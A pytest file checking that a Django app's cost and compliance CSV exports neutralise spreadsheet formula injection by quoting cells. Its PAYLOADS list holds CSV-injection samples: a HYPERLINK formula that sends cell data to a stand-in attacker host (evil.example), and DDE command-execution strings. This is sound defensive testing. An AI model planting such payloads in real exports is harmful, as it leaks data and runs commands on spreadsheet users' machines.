"""CSV exports write user text that a spreadsheet would run as a formula with a quote in
front (OWASP "CSV Injection": cells starting with =, +, -, @, tab or carriage return)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from costs.api import csv_response
from costs.rollups import AMOUNTS
from policies.services.policies import PolicySpec, policy_create
from policies.services.reports import ReportSpec, report_definition_save, report_generate
from tests.factories import make_cluster, make_evaluation, make_team

NOW = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_cost_export_quotes_formula_cells_and_keeps_numbers() -> None:
    # given rollup rows grouped by a user-written value (a region, a label value)
    rows = [
        {"group": payload, "cpu_core_hours": Decimal("-1.5"), **dict.fromkeys(AMOUNTS, 1)}
        for payload in [*PAYLOADS, "eu-west-1"]
    ]
    # when exported
    text = csv_response(rows, "region").content.decode()
    # then every formula cell reads back as the payload behind a quote, the rest unchanged
    read = list(csv.reader(io.StringIO(text)))
    assert [r[0] for r in read[1:]] == [f"'{p}" for p in PAYLOADS] + ["eu-west-1"]
    assert {r[-1] for r in read[1:]} == {"-1.5"}  # a negative number stays a number


@pytest.mark.django_db
def test_compliance_report_csv_quotes_a_formula_standard_name() -> None:
    # given a policy whose standard is a formula, with one evaluation in the period
    team = make_team(name="payments")
    cluster = make_cluster(team=team, name="eu-1", mode="pull")
    policy = policy_create(
        team=team,
        actor=None,
        spec=PolicySpec(
            name="p",
            standards=[PAYLOADS[0]],
            rules=[{"name": "r", "kind": "cluster", "expression": "cluster.nodeCount >= 0"}],
        ),
    )
    make_evaluation(policy=policy, cluster=cluster, status="compliant", at=NOW - timedelta(hours=5))
    definition = report_definition_save(
        team=team, actor=None, spec=ReportSpec(name="weekly", formats=["csv"])
    )
    # when the report is generated
    report = report_generate(definition=definition, now=NOW)
    # then the standard's row holds the quoted text, not a formula
    [file] = report.files.all()
    rows = list(csv.DictReader(io.StringIO(bytes(file.content).decode())))
    assert [r["name"] for r in rows if r["section"] == "standard"] == [f"'{PAYLOADS[0]}"]
